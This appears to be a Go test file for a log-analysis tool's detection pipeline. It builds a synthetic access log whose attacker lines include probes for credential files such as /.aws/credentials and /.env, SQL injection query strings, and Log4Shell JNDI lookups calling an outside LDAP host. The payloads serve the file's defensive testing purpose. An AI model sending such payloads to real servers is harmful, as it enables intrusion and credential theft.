@@ -1,0 +1,330 @@
+package pipeline
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/logsift/logsift/internal/analysis"
+	"github.com/logsift/logsift/internal/detect"
+	"github.com/logsift/logsift/internal/evidence"
+	"github.com/logsift/logsift/internal/logformat"
+	"github.com/logsift/logsift/internal/record"
+	"github.com/logsift/logsift/internal/report"
+	"github.com/logsift/logsift/internal/store"
+)
+
+// combinedLine writes one Apache combined log line.
+func combinedLine(ip string, t time.Time, method, target string, status int, ua string) string {
+	return fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d 512 \"-\" \"%s\"\n",
+		ip, t.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, ua)
+}
+
+const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
+
+// testLog builds a small log: benign visitors, and attackers doing things the
+// rules must catch whatever their addresses.
+func testLog(t *testing.T, benign int) (path string, attackers []string) {
+	t.Helper()
+	var b strings.Builder
+	start := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
+	for i := 0; i < benign; i++ {
+		ip := fmt.Sprintf("100.64.%d.%d", i/200, i%200+1)
+		ts := start.Add(time.Duration(i) * time.Second)
+		for _, p := range []string{"/", "/static/app.js", "/static/app.css", "/api/items"} {
+			b.WriteString(combinedLine(ip, ts, "GET", p, 200, browser))
+		}
+	}
+	attackers = []string{"198.51.100.23", "203.0.113.77", "2001:db8:7:1::5"}
+	ts := start.Add(10 * time.Minute)
+	for i, p := range []string{"/.env", "/.git/config", "/.aws/credentials", "/backup.sql", "/config.php.bak"} {
+		b.WriteString(combinedLine(attackers[0], ts.Add(time.Duration(i)*time.Second), "GET", p, 404, "curl/8.0"))
+	}
+	for i, q := range []string{"id=1%20UNION%20SELECT%20password%20FROM%20users", "id=1%27%20OR%20sleep(5)--", "q=1%20AND%201=1%20union%20select%20null,null"} {
+		b.WriteString(combinedLine(attackers[1], ts.Add(time.Duration(i)*time.Second), "GET", "/products?"+q, 500, browser))
+	}
+	b.WriteString(combinedLine(attackers[2], ts, "GET", "/", 200, "${jndi:ldap://198.51.100.9:1389/a}"))
+	b.WriteString(combinedLine(attackers[2], ts.Add(time.Second), "GET", "/?x=${jndi:ldap://198.51.100.9/b}", 200, browser))
+	path = filepath.Join(t.TempDir(), "access.log")
+	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return path, []string{"198.51.100.23", "203.0.113.77", "2001:db8:7:1::/64"}
+}
+
+func actorsOf(r *report.Report) []string {
+	var out []string
+	for _, f := range r.Findings {
+		out = append(out, f.Actor)
+	}
+	slices.Sort(out)
+	return out
+}
+
+func newStages(t *testing.T) *Stages {
+	return &Stages{
+		Store:    store.Dir{Root: t.TempDir()},
+		Detect:   detect.DefaultConfig(),
+		Analyzer: analysis.Offline{},
+		TempDir:  t.TempDir(),
+	}
+}
+
+func TestLocalAndStagedRunsAgree(t *testing.T) {
+	path, attackers := testLog(t, 300)
+	ctx := context.Background()
+
+	local, err := newStages(t).AnalyzeFiles(ctx, []string{path}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, a := range attackers {
+		if !slices.Contains(actorsOf(local), a) {
+			t.Errorf("local run did not report %s; findings %v", a, actorsOf(local))
+		}
+	}
+	if local.Input.Lines != local.Input.Parsed+local.Input.Skipped+local.Input.Rejected {
+		t.Errorf("input account does not add up: %+v", local.Input)
+	}
+
+	// Force several chunks so that the partitioning is exercised.
+	st := newStages(t)
+	st.ChunkBytes = 4 << 10
+	staged, out, err := st.RunStaged(ctx, path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !slices.Equal(actorsOf(local), actorsOf(staged)) {
+		t.Errorf("staged run found %v, local run %v", actorsOf(staged), actorsOf(local))
+	}
+	if staged.Input.Parsed != local.Input.Parsed || staged.Input.Actors != local.Input.Actors {
+		t.Errorf("staged input %+v, local %+v", staged.Input, local.Input)
+	}
+	for _, k := range []string{out.Report.JSON, out.Report.HTML, out.Report.MD, out.Report.Text} {
+		if ok, _ := st.Store.Exists(ctx, k); !ok {
+			t.Errorf("report %s not stored", k)
+		}
+	}
+}
+
+func TestParsePartitionsByActor(t *testing.T) {
+	path, _ := testLog(t, 500)
+	ctx := context.Background()
+	st := newStages(t)
+	st.ChunkBytes = 2 << 10
+	st.MaxChunks = 5
+	data, _ := os.ReadFile(path)
+	src := SourceRef{Bucket: "b", Key: "uploads/access.log", ETag: "e1", Size: int64(len(data))}
+	if err := st.Store.Put(ctx, src.Key, bytes.NewReader(data), ""); err != nil {
+		t.Fatal(err)
+	}
+	out, err := st.Parse(ctx, src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(out.Chunks) == 0 || len(out.Chunks) > st.MaxChunks {
+		t.Fatalf("%d chunks, want 1..%d", len(out.Chunks), st.MaxChunks)
+	}
+	seen := map[netip.Prefix]int{}
+	var rows int64
+	for _, c := range out.Chunks {
+		rc, err := st.Store.Open(ctx, c.Key)
+		if err != nil {
+			t.Fatal(err)
+		}
+		err = readChunk(ctx, rc, func(r *record.Record) {
+			rows++
+			a := record.Actor(r.Client)
+			if prev, ok := seen[a]; ok && prev != c.Index {
+				t.Errorf("actor %s in chunks %d and %d", a, prev, c.Index)
+			}
+			seen[a] = c.Index
+		})
+		rc.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if rows != out.Rows {
+		t.Errorf("chunks hold %d rows, Parse counted %d", rows, out.Rows)
+	}
+}
+
+func TestParseRejectsNonLog(t *testing.T) {
+	ctx := context.Background()
+	st := newStages(t)
+	png := append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{0, 1, 2, 3}, 100)...)
+	src := SourceRef{Bucket: "b", Key: "uploads/picture.csv", ETag: "x", Size: int64(len(png))}
+	st.Store.Put(ctx, src.Key, bytes.NewReader(png), "")
+	_, err := st.Parse(ctx, src)
+	if !errors.Is(err, logformat.ErrNotALog) {
+		t.Fatalf("err = %v, want ErrNotALog", err)
+	}
+	if !strings.Contains(err.Error(), "uploads/picture.csv") {
+		t.Errorf("error does not name the file: %v", err)
+	}
+}
+
+// recorder is a Notifier that remembers what it sent.
+type recorder struct {
+	mu   sync.Mutex
+	sent []string
+	fail error
+}
+
+func (r *recorder) Notify(_ context.Context, subject, body string) (string, error) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	if r.fail != nil {
+		return "", r.fail
+	}
+	r.sent = append(r.sent, subject+"\n"+body)
+	return fmt.Sprintf("m-%d", len(r.sent)), nil
+}
+
+func TestNotifyOncePerObjectVersion(t *testing.T) {
+	path, attackers := testLog(t, 50)
+	ctx := context.Background()
+	st := newStages(t)
+	rec := &recorder{}
+	st.Notifier = rec
+	_, agg, err := st.RunStaged(ctx, path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	in := NotifyInput{Mode: "report", Source: agg.Source, Aggregate: &agg}
+
+	rec.fail = errors.New("sns down")
+	if _, err := st.Notify(ctx, in); err == nil {
+		t.Fatal("Notify with a failing notifier returned no error")
+	}
+	rec.fail = nil
+	out, err := st.Notify(ctx, in)
+	if err != nil || !out.Sent {
+		t.Fatalf("Notify after a failed send: %+v, %v (the claim must be released on failure)", out, err)
+	}
+	out, err = st.Notify(ctx, in)
+	if err != nil || out.Sent {
+		t.Fatalf("second Notify sent again: %+v, %v", out, err)
+	}
+	if len(rec.sent) != 1 {
+		t.Fatalf("%d emails, want 1", len(rec.sent))
+	}
+	for _, a := range attackers {
+		if !strings.Contains(rec.sent[0], a) {
+			t.Errorf("email does not name %s", a)
+		}
+	}
+	// The same object version uploaded again is recognised by Parse.
+	p, err := st.Parse(ctx, agg.Source)
+	if err != nil || !p.AlreadyReported {
+		t.Errorf("Parse of a reported version: %+v, %v", p.AlreadyReported, err)
+	}
+	// A new version (new etag) is analysed again.
+	src2 := agg.Source
+	src2.ETag = "new"
+	if p, err := st.Parse(ctx, src2); err != nil || p.AlreadyReported {
+		t.Errorf("Parse of a new version: already=%v, %v", p.AlreadyReported, err)
+	}
+}
+
+func TestNotifyFailureMode(t *testing.T) {
+	ctx := context.Background()
+	st := newStages(t)
+	rec := &recorder{}
+	st.Notifier = rec
+	in := NotifyInput{Mode: "failure", Source: SourceRef{Bucket: "b", Key: "uploads/x.csv", ETag: "e"},
+		Failure: &Failure{Stage: "Parse", Error: "Unhandled", Cause: `{"errorMessage":"uploads/x.csv is not a log logsift can read: binary data (PNG image)","errorType":"wrapError"}`}}
+	out, err := st.Notify(ctx, in)
+	if err != nil || !out.Sent {
+		t.Fatalf("%+v, %v", out, err)
+	}
+	msg := rec.sent[0]
+	for _, want := range []string{"Parse", "uploads/x.csv", "PNG"} {
+		if !strings.Contains(msg, want) {
+			t.Errorf("failure email lacks %q:\n%s", want, msg)
+		}
+	}
+}
+
+// failingAnalyzer stands in for a model that cannot be used.
+type failingAnalyzer struct{ err error }
+
+func (f failingAnalyzer) Classify(context.Context, []evidence.Actor, []evidence.Campaign) (analysis.ClassifyResult, error) {
+	return analysis.ClassifyResult{}, f.err
+}
+func (f failingAnalyzer) Recommend(context.Context, analysis.RecommendInput) (analysis.RecommendResult, error) {
+	return analysis.RecommendResult{}, f.err
+}
+
+func TestModelFailures(t *testing.T) {
+	path, attackers := testLog(t, 50)
+	ctx := context.Background()
+
+	t.Run("unavailable: report from the rules", func(t *testing.T) {
+		st := newStages(t)
+		st.Analyzer = failingAnalyzer{fmt.Errorf("%w: enable model access", analysis.ErrUnavailable)}
+		rep, err := st.AnalyzeFiles(ctx, []string{path}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !rep.Analysis.ModelUnavailable {
+			t.Error("report does not say the model was unavailable")
+		}
+		for _, a := range attackers {
+			if !slices.Contains(actorsOf(rep), a) {
+				t.Errorf("attacker %s missing", a)
+			}
+		}
+	})
+	t.Run("throttled: typed error for the state machine", func(t *testing.T) {
+		st := newStages(t)
+		st.Analyzer = failingAnalyzer{fmt.Errorf("%w: ThrottlingException", analysis.ErrThrottled)}
+		_, _, err := st.RunStaged(ctx, path)
+		var mt *ModelThrottled
+		if !errors.As(err, &mt) {
+			t.Fatalf("err = %v, want *ModelThrottled", err)
+		}
+	})
+}
+
+func TestChunkCount(t *testing.T) {
+	st := &Stages{ChunkBytes: 100, MaxChunks: 4}
+	tests := []struct {
+		size int64
+		gz   bool
+		want int
+	}{
+		{0, false, 1}, {1, false, 1}, {100, false, 1}, {101, false, 2}, {10000, false, 4}, {20, true, 2},
+	}
+	for _, tt := range tests {
+		if got := st.chunkCount(tt.size, tt.gz); got != tt.want {
+			t.Errorf("chunkCount(%d, %v) = %d, want %d", tt.size, tt.gz, got, tt.want)
+		}
+	}
+}
+
+func TestFailureMessage(t *testing.T) {
+	tests := []struct {
+		f    Failure
+		want string
+	}{
+		{Failure{Error: "States.Timeout", Cause: ""}, "States.Timeout: "},
+		{Failure{Error: "wrapError", Cause: `{"errorMessage":"boom","errorType":"wrapError"}`}, "wrapError: boom"},
+		{Failure{Error: "X", Cause: "X happened"}, "X happened"},
+	}
+	for _, tt := range tests {
+		if got := failureMessage(tt.f); got != tt.want {
+			t.Errorf("failureMessage(%+v) = %q, want %q", tt.f, got, tt.want)
+		}
+	}
+}
